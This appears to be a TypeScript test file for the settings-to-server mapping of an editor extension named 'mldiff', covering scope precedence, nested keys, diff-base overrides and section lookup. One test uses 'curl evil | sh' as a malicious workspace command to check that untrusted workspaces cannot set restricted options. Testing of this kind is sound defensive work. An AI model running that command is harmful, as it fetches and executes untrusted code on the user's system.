import assert from "node:assert/strict";
import { test } from "node:test";
import { type Inspected, type MappingContext, sectionOf, serverSettings, isServerSection } from "../src/settings.ts";

const trusted: MappingContext = { trusted: true, restricted: ["mldiff.validate.command", "mldiff.validate.runner"] };

function inspector(values: Record<string, Inspected>) {
  return (key: string) => values[key] ?? {};
}

test("only settings the user set are sent, so pyproject's [tool.mldiff] applies to the rest", () => {
  assert.deepEqual(serverSettings(inspector({}), trusted), {});
  const settings = serverSettings(inspector({
    base: { workspaceValue: "merge-base:main" },
    ignore: { globalValue: ["batch_size"] },
  }), trusted);
  assert.deepEqual(settings, { base: "merge-base:main", ignore: ["batch_size"] });
});

test("dotted keys become nested tables, as [tool.mldiff.validate] is", () => {
  const settings = serverSettings(inspector({
    "validate.command": { workspaceValue: "python train.py --epochs 1" },
    "validate.steps": { globalValue: 20 },
    severity: { workspaceValue: { ML201: "error", batch_size: "information" } },
  }), trusted);
  assert.deepEqual(settings, {
    severity: { ML201: "error", batch_size: "information" },
    validate: { command: "python train.py --epochs 1", steps: 20 },
  });
});

test("the most specific scope wins: folder, then workspace, then user", () => {
  const settings = serverSettings(inspector({
    base: { globalValue: "HEAD", workspaceValue: "index", workspaceFolderValue: "merge-base:dev" },
    select: { globalValue: ["ML2"], workspaceValue: ["precision"] },
  }), trusted);
  assert.equal(settings.base, "merge-base:dev");
  assert.deepEqual(settings.select, ["precision"]);
});

test("in an untrusted workspace, workspace values of restricted settings are not sent", () => {
  const values = inspector({
    "validate.command": { globalValue: "python train.py", workspaceValue: "curl evil | sh" },
    "validate.runner": { workspaceValue: "docker" },
    base: { workspaceValue: "index" },
  });
  const settings = serverSettings(values, { ...trusted, trusted: false });
  assert.deepEqual(settings, { base: "index", validate: { command: "python train.py" } });
});

test("a base chosen with Set diff base wins over the setting; a blank base is not sent", () => {
  assert.equal(serverSettings(inspector({ base: { workspaceValue: "HEAD" } }), { ...trusted, baseOverride: "merge-base:main" }).base, "merge-base:main");
  assert.deepEqual(serverSettings(inspector({ base: { workspaceValue: "  " } }), trusted), {});
});

test("client-only settings never reach the server", () => {
  const settings = serverSettings((key) => ({ globalValue: `value of ${key}` }), trusted);
  assert.deepEqual(Object.keys(settings).sort(), [
    "base", "debounceMs", "diagnosticMode", "exclude", "ignore", "include", "maxFileBytes", "select", "severity", "validate",
  ]);
  assert.deepEqual(Object.keys(settings.validate ?? {}).sort(), ["command", "runner", "steps", "timeout"]);
});

test("a workspace/configuration item gets the section it names", () => {
  const settings = { base: "index", validate: { steps: 5 } };
  assert.deepEqual(sectionOf(settings, "mldiff"), settings);
  assert.equal(sectionOf(settings, "mldiff.base"), "index");
  assert.equal(sectionOf(settings, "mldiff.validate.steps"), 5);
  assert.equal(sectionOf(settings, "mldiff.select"), null);
  assert.equal(sectionOf(settings, "mldiff.base.deeper"), null);
  assert.ok(isServerSection("mldiff") && isServerSection("mldiff.base"));
  assert.ok(!isServerSection("mldiffx") && !isServerSection("python") && !isServerSection(undefined));
});
